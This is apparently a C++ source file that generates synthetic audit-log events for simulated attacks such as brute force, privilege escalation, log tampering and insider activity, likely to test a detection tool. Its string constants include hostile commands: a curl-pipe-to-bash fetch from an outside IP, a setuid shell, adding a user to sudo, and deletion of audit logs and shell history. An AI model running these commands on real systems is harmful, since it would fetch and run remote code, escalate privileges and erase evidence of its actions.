#include "src/generate/scenarios.hpp"

#include <array>
#include <cstdint>

namespace auditflow::generate {
namespace {

using Plan = std::deque<PlannedEvent>;

void BruteForce(RandomSource& random, Plan& plan) {
  PlannedEvent event{.kind = Kind::kLoginFailure,
                     .host = Pick(kHosts, random),
                     .user = Pick(kUsers, random),
                     .address = PickAddress(random)};
  for (std::uint64_t left = 3 + random.Below(4); left > 0; --left) plan.push_back(event);
  event.kind = Kind::kLogin;
  plan.push_back(event);
}

void PasswordSpraying(RandomSource& random, Plan& plan) {
  PlannedEvent event{
      .kind = Kind::kLoginFailure, .host = Pick(kHosts, random), .address = PickAddress(random)};
  for (const std::string_view user : kUsers) {
    event.user = user;
    plan.push_back(event);
  }
}

void SensitiveFile(RandomSource& random, Plan& plan) {
  constexpr std::array<std::string_view, 5> kFiles = {"/etc/shadow", "/etc/sudoers", "/etc/passwd",
                                                      "/etc/sudoers.d/90-app",
                                                      "/home/app_user/.ssh/authorized_keys"};
  plan.push_back({.kind = Kind::kFile,
                  .host = Pick(kHosts, random),
                  .user = "attacker_bob",
                  .subject = Pick(kFiles, random)});
}

void PrivilegeEscalation(RandomSource& random, Plan& plan) {
  constexpr std::array<std::string_view, 5> kCommands = {
      "/bin/bash", "su -", "usermod -aG sudo guest_user", "curl -s http://203.0.113.9/x.sh | bash",
      "chmod u+s /bin/bash"};
  plan.push_back({.kind = Kind::kSudo,
                  .host = Pick(kHosts, random),
                  .user = Pick(kUsers, random),
                  .subject = Pick(kCommands, random),
                  .extra = random.Below(3) == 0 ? "none" : "pts/0"});
}

void PrivilegedAccount(RandomSource& random, Plan& plan) {
  plan.push_back({.kind = Kind::kAccount,
                  .host = Pick(kHosts, random),
                  .user = "attacker_bob",
                  .subject = "sysupdate",
                  .extra = random.Below(2) == 0 ? "sudo" : "wheel"});
}

void ServiceOutage(RandomSource& random, Plan& plan) {
  constexpr std::array<std::string_view, 3> kUnits = {"nginx.service", "postgresql.service",
                                                      "app-worker.service"};
  PlannedEvent event{
      .kind = Kind::kStopped, .user = Pick(kUsers, random), .subject = Pick(kUnits, random)};
  for (const std::string_view host : kHosts) {
    event.host = host;
    plan.push_back(event);
  }
}

void LogTampering(RandomSource& random, Plan& plan) {
  constexpr std::array<std::string_view, 3> kCommands = {
      "rm -rf /var/log/audit", "truncate -s 0 /var/log/auth.log", "rm -f /root/.bash_history"};
  PlannedEvent event{.kind = Kind::kStopped,
                     .host = Pick(kHosts, random),
                     .user = "attacker_bob",
                     .subject = "auditd.service"};
  plan.push_back(event);
  event.kind = Kind::kSudo;
  event.subject = Pick(kCommands, random);
  plan.push_back(event);
}

void MassModification(RandomSource& random, Plan& plan) {
  constexpr std::array<std::string_view, 5> kFiles = {
      "/opt/app/config.json", "/opt/app/main.py", "/var/www/html/index.php",
      "/var/www/html/login.php", "/opt/app/db.json"};
  PlannedEvent event{
      .kind = Kind::kFile, .host = Pick(kHosts, random), .user = Pick(kUsers, random)};
  for (const std::string_view file : kFiles) {
    event.subject = file;
    plan.push_back(event);
  }
}

void Insider(RandomSource& random, Plan& plan) {
  constexpr std::array<std::string_view, 3> kTrusted = {"devops_admin", "app_user",
                                                        "monitoring_agent"};
  constexpr std::array<std::string_view, 4> kChanged = {"/opt/app/config.json", "/opt/app/db.json",
                                                        "/var/www/html/index.php",
                                                        "/var/www/html/login.php"};
  const PlannedEvent someone{.host = Pick(kHosts, random), .user = Pick(kTrusted, random)};
  const auto add = [&](Kind kind, std::string_view subject, std::string_view extra = {}) {
    PlannedEvent event = someone;
    event.kind = kind;
    event.subject = subject;
    event.extra = extra;
    plan.push_back(event);
  };
  add(Kind::kLogin, {});
  add(Kind::kSudo, "/bin/bash", "pts/0");
  add(Kind::kFile, "/root/.ssh/authorized_keys");
  add(Kind::kAccount, "sysupdate", "sudo");
  for (const std::string_view file : kChanged) add(Kind::kFile, file);
  add(Kind::kStopped, "auditd.service");
  add(Kind::kSudo, "rm -rf /var/log/audit", "pts/0");
}

}  // namespace

void PlanScenario(const ScenarioMix& mix, RandomSource& random, std::deque<PlannedEvent>& plan) {
  struct Choice {
    std::uint32_t weight;
    void (*play)(RandomSource&, Plan&);
  };
  const std::array<Choice, 9> choices = {{{mix.brute_force, &BruteForce},
                                          {mix.password_spraying, &PasswordSpraying},
                                          {mix.sensitive_file, &SensitiveFile},
                                          {mix.privilege_escalation, &PrivilegeEscalation},
                                          {mix.privileged_account, &PrivilegedAccount},
                                          {mix.service_outage, &ServiceOutage},
                                          {mix.log_tampering, &LogTampering},
                                          {mix.mass_modification, &MassModification},
                                          {mix.insider, &Insider}}};
  std::uint64_t all = 0;
  for (const Choice& choice : choices) all += choice.weight;
  std::uint64_t drawn = random.Below(all);
  for (const Choice& choice : choices) {
    if (drawn < choice.weight) return choice.play(random, plan);
    drawn -= choice.weight;
  }
}

}  // namespace auditflow::generate
